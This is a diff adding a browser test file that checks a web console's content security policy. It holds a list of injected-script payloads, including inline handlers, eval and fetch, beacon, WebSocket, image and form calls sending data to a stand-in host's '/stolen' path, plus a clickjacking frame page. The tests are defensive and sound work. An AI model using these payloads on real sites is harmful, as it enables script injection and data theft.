@@ -1,0 +1,102 @@
+import { type Server, createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { expect, it, onTestFinished } from 'vitest';
+import { axe } from '../support/axe.ts';
+import { openConsole } from '../support/browser.ts';
+import { TestGateway } from '../support/gateway.ts';
+
+it('CON7 opens in a browser, at any of its pages, without a word from another host', async () => {
+  const gateway = await TestGateway.start();
+  const page = await openConsole({ gateway });
+  for (const path of ['', '/live', '/history']) {
+    await page.goto(`${gateway.url}/console${path}`);
+    await page.getByRole('heading', { level: 1 }).waitFor();
+  }
+  await axe(page);
+});
+
+it('CON7 reaches its own gateway’s WebSocket under its policy', async () => {
+  const gateway = await TestGateway.start();
+  const page = await openConsole({ gateway });
+  const opened = await page.evaluate(`new Promise((resolve) => {
+    const socket = new WebSocket(location.origin.replace('http', 'ws') + '/graphql', 'graphql-transport-ws');
+    socket.onopen = () => { socket.close(); resolve('opened'); };
+    socket.onerror = () => resolve('refused');
+  })`);
+  expect(opened).toBe('opened');
+});
+
+/** What a script that got into the page would try, and what the page would then have of it. */
+const attacks: [attempt: string, script: string][] = [
+  [
+    'a script in the page',
+    `document.body.append(Object.assign(document.createElement('script'), { text: 'hit = 1' }))`,
+  ],
+  ['markup with a handler', `document.body.innerHTML = '<img src="x" onerror="hit = 1">'`],
+  ['text that is run', `setTimeout('hit = 1')`],
+  ['text that is run at once', `setTimeout(() => eval('hit = 1'))`],
+  ['a script of another host', `import(OTHER + '/script.js')`],
+  ['a request', `fetch(OTHER + '/stolen', { mode: 'no-cors' })`],
+  ['a beacon', `navigator.sendBeacon(OTHER + '/stolen')`],
+  ['a WebSocket', `new WebSocket(OTHER.replace('http', 'ws'))`],
+  ['an event stream', `new EventSource(OTHER + '/stolen')`],
+  ['a picture', `new Image().src = OTHER + '/stolen'`],
+  ['a picture in a style', `document.body.style.background = 'url(' + OTHER + '/stolen)'`],
+  [
+    'a style sheet',
+    `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: OTHER + '/stolen' }))`,
+  ],
+  ['a frame', `document.body.append(Object.assign(document.createElement('iframe'), { src: OTHER + '/stolen' }))`],
+  [
+    'a form',
+    `{ const form = document.createElement('form'); form.action = OTHER; document.body.append(form); form.submit(); }`,
+  ],
+  [
+    'another base',
+    `{ const base = document.createElement('base'); base.href = OTHER; document.head.append(base); if (document.baseURI.startsWith(OTHER)) hit = 1; }`,
+  ],
+  ['a worker', `new Worker(URL.createObjectURL(new Blob(['fetch("' + OTHER + '")'])))`],
+];
+
+it('CON7 runs nothing that gets into the page, and lets nothing out to another host', async () => {
+  const gateway = await TestGateway.start();
+  const heard: string[] = [];
+  const other = await listen(
+    createServer(({ url = '' }, response) => {
+      heard.push(url);
+      response.end('hit = 1');
+    }),
+  );
+  const page = await openConsole({ gateway, expected: /^/ });
+  for (const [attempt, script] of attacks) {
+    const tried = await page.evaluate(`(async () => {
+      const OTHER = ${JSON.stringify(other)};
+      const forbidden = new Promise((resolve) => addEventListener('securitypolicyviolation', resolve, { once: true }));
+      try { await (async () => { ${script} })() } catch {}
+      await forbidden;
+      return typeof hit;
+    })()`);
+    expect([attempt, tried]).toEqual([attempt, 'undefined']);
+  }
+  expect(heard).toEqual([]);
+});
+
+it('CON7 is shown in no other page’s frame', async () => {
+  const gateway = await TestGateway.start();
+  const other = await listen(
+    createServer((_request, response) => {
+      response.setHeader('content-type', 'text/html');
+      response.end(`<title>A trap</title><iframe src="${gateway.url}/console"></iframe>`);
+    }),
+  );
+  const page = await openConsole({ gateway, expected: /frame-ancestors|a request to|404/ });
+  await page.goto(other);
+  const [, frame] = page.frames();
+  await expect.poll(() => frame!.url()).toMatch(/^chrome-error:/);
+});
+
+async function listen(server: Server): Promise<string> {
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
+  onTestFinished(() => void server.close());
+  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+}
